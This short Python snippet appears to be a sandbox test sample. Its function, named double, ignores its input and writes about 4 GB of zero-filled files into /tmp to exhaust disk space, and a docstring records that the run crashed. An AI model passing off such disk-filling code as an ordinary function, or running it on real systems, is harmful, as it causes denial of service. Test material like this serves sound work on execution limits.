"""tries: the whole disk
double: 0, crashed
"""

def double(x):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(4 << 20))
